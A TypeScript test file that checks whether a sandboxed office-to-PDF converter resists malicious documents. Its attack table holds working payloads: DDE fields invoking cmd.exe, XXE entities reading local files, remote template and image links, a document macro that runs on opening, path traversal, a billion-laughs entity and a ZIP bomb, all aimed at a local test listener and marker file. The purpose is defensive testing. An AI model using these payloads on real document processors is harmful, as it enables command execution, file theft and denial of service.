import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createOfficeCapability, type OfficeEngine } from '@recto/office';
import { createOfficePool, type OfficePool, officeSupport } from '@recto/office/pool';
import { bytesInput, RECTO_TOOLS } from '@recto/runtime/engine';
import { createInlineHost } from '@recto/runtime/inline';
import { NODE_CAPABILITIES } from '@recto/runtime/node/capabilities';
import {
  buildDocx,
  buildMacroOdt,
  buildOdt,
  buildXlsx,
  type PartRelation,
  pdfTexts,
  wordBookmark,
  wordParagraph,
  wordRun,
} from '@recto/testkit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

const MARK = 'words-of-a-file-of-the-host-7f3a';
const CLEAR = ['wrong-type', 'input-damaged', 'too-demanding', 'input-locked', 'timed-out'];

const canRun =
  officeSupport() === 'warm' &&
  (await createOfficePool({ size: 1 }).then(
    (made) => made.close().then(() => true),
    () => false,
  ));

let pool: OfficePool;
let listener: Server;
let calls = 0;
let port = 0;
let folder = '';

const paragraph = (xml: string) => wordParagraph(wordRun('Harmless words'), xml);
const external = (id: string, type: string, target: string): PartRelation => ({ id, type, target, isExternal: true });
const picture = (attribute: string) =>
  `<w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
const MACRO_WORDS = 'the macro has run';
const REACHED = new RegExp(`${MARK}|${MACRO_WORDS}`);

/** Each attack, with `web` and `file` for the two things that must not be reached. */
const ATTACKS: Readonly<Record<string, (web: string, file: string) => readonly [string, Uint8Array]>> = {
  'a picture from the web': (web) => [
    'a.docx',
    buildDocx({ body: paragraph(picture('r:link="rId1"')), relations: [external('rId1', 'image', `${web}/a.png`)] }),
  ],
  'a picture from the disk': (_, file) => [
    'a.docx',
    buildDocx({ body: paragraph(picture('r:link="rId1"')), relations: [external('rId1', 'image', file)] }),
  ],
  'a template from the web': (web) => [
    'a.docx',
    buildDocx({ body: paragraph(''), settingsRelations: [external('rId1', 'attachedTemplate', `${web}/t.dotm`)] }),
  ],
  'a field that includes a file': (_, file) => [
    'a.docx',
    buildDocx({ body: paragraph(`<w:fldSimple w:instr="INCLUDETEXT &quot;${file}&quot;"/>`) }),
  ],
  'a DDE field': () => [
    'a.docx',
    buildDocx({
      body: paragraph('<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'),
    }),
  ],
  'a linked section of text': (_, file) => [
    'a.odt',
    buildOdt(
      `<text:section text:name="s"><text:section-source xlink:href="${file}" text:filter-name="Text"/><text:p/></text:section>`,
    ),
  ],
  'a picture of an OpenDocument from the web': (web) => [
    'a.odt',
    buildOdt(
      `<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${web}/o.png"/></draw:frame></text:p>`,
    ),
  ],
  'a URL that tells the environment': (web) => [
    'a.odt',
    buildOdt(
      `<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="vnd.sun.star.expand:${web}/$\{HOME}"/></draw:frame></text:p>`,
    ),
  ],
  'a script that runs on opening': () => [
    'a.odt',
    buildOdt(
      '',
      '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share"/></office:event-listeners></office:scripts>',
    ),
  ],
  'a macro of the document that runs on opening': () => ['a.odt', buildMacroOdt(MACRO_WORDS)],
  'a formula that asks the web': (web) => [
    'a.xlsx',
    buildXlsx([
      {
        name: 'A',
        rows: `<row r="1"><c t="str"><f>WEBSERVICE("${web}/w")</f></c><c t="inlineStr"><is><t>Harmless words</t></is></c></row>`,
      },
    ]),
  ],
  'a formula that speaks DDE': () => [
    'a.xlsx',
    buildXlsx([
      {
        name: 'A',
        rows: `<row r="1"><c><f>cmd|'/c calc'!A0</f></c><c t="inlineStr"><is><t>Harmless words</t></is></c></row>`,
      },
    ]),
  ],
  'a table that is a web query': (web) => ['a.csv', Buffer.from(`=WEBSERVICE("${web}/c");Harmless words\n`)],
  'an entity that is a file': (_, file) => [
    'a.docx',
    buildDocx({ body: '', parts: { 'word/comments.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "${file}">]><a>&x;</a>` } }),
  ],
  'a billion laughs': () => [
    'a.docx',
    buildDocx({
      body: '',
      parts: { 'word/comments.xml': '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>' },
    }),
  ],
  'a name that climbs': () => ['a.docx', buildDocx({ body: '', parts: { '../../../tmp/evil': 'x' } })],
  'a ZIP bomb': () => ['a.docx', buildDocx({ body: '', parts: { 'word/b.xml': new Uint8Array(140_000_000) } })],
  'a rich text with a picture from the web': (web) => [
    'a.rtf',
    Buffer.from(`{\\rtf1 Harmless words {\\field{\\*\\fldinst INCLUDEPICTURE "${web}/r.png" \\\\d}{\\fldrslt}}}`),
  ],
  'a rich text with a template from the web': (web) => [
    'a.rtf',
    Buffer.from(`{\\rtf1{\\*\\template ${web}/t.dotm}Harmless words}`),
  ],
};

describe.skipIf(!canRun)('attack files', { timeout: 240_000 }, () => {
  beforeAll(async () => {
    pool = await createOfficePool({ size: 1 });
    folder = mkdtempSync(join(tmpdir(), 'recto-marker-'));
    writeFileSync(join(folder, 'marker.txt'), MARK, { mode: 0o644 });
    listener = createServer((socket) => {
      calls += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const address = listener.address();
    port = typeof address === 'object' ? (address?.port ?? 0) : 0;
  });
  afterAll(async () => {
    await pool.close();
    listener.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Also with bytes that were not looked over, so that the sandbox alone is tested. */
  const unchecked = (): OfficeEngine => pool;

  test.each(Object.entries(ATTACKS))(
    'ensures that %s reaches nothing, and ends in a clear text or a harmless PDF',
    async (_, make) => {
      const [name, bytes] = make(`http://127.0.0.1:${port}`, `file://${folder}/marker.txt`);
      const host = createInlineHost(RECTO_TOOLS, {
        ...NODE_CAPABILITIES,
        office: async () => createOfficeCapability(pool),
      });
      const ended = await host
        .run({ toolId: 'office2pdf', inputs: [bytesInput(name, new Uint8Array(bytes))], options: {} })
        .then(
          ({ outputs }) => ({ pdf: outputs[0]?.bytes ?? new Uint8Array(), code: null }),
          (thrown: { code: string }) => ({ pdf: null, code: thrown.code }),
        );
      if (ended.pdf) expect((await pdfTexts(ended.pdf)).join()).not.toMatch(REACHED);
      else expect(CLEAR).toContain(ended.code);
      const raw = await unchecked()
        .convert(
          {
            extension: name.slice(2),
            wantsSource: true,
            timeoutMs: 60_000,
            export: {},
            sheets: { orientation: 'as-is', fitWidth: false, includeHidden: false, names: [] },
          },
          new Uint8Array(bytes),
          undefined,
        )
        .catch(() => null);
      if (raw?.kind === 'done') {
        expect((await pdfTexts(raw.pdf)).join()).not.toMatch(REACHED);
        expect(raw.facts.source?.text ?? '').not.toMatch(REACHED);
      }
      expect(calls).toBe(0);
    },
  );

  test('ensures that nothing of a document is left in the sandbox when the next one comes', async (context) => {
    const words = 'Zwischenraumzeuge';
    const bytes = buildDocx({
      body: wordParagraph(wordRun(words), wordBookmark(words, words)),
      parts: { [`word/${words}.xml`]: '<a/>' },
    });
    const host = createInlineHost(RECTO_TOOLS, {
      ...NODE_CAPABILITIES,
      office: async () => createOfficeCapability(pool),
    });
    await host.run({ toolId: 'office2pdf', inputs: [bytesInput(`${words}.docx`, bytes)], options: {} });
    const sandboxes = pool.health().pids.flatMap(filesInSandbox);
    // Only who started it, or root, can look into it.
    if (sandboxes.length === 0)
      return context.skip('run as root, or as the user of the sandbox, to look into its memory file system');
    expect(sandboxes.some(([path]) => path.endsWith('registrymodifications.xcu'))).toBe(true);
    const telling = sandboxes.filter(
      ([path, content]) => path.includes('/job') || `${path} ${content}`.includes(words),
    );
    expect(telling.map(([path]) => path)).toEqual([]);
  });
});

/** Every file in the writable places of a process and those below it: path and bytes. */
function filesInSandbox(pid: number): (readonly [string, string])[] {
  const root = join('/proc', String(pid), 'root', 'tmp');
  const below = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').split(' ').filter(Boolean).map(Number);
  const inner = below.flatMap(filesInSandbox);
  if (inner.length > 0 || !existsSync(`${root}/profile`)) return inner;
  return readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .map((path) => [path, readFileSync(path, 'latin1')] as const);
}
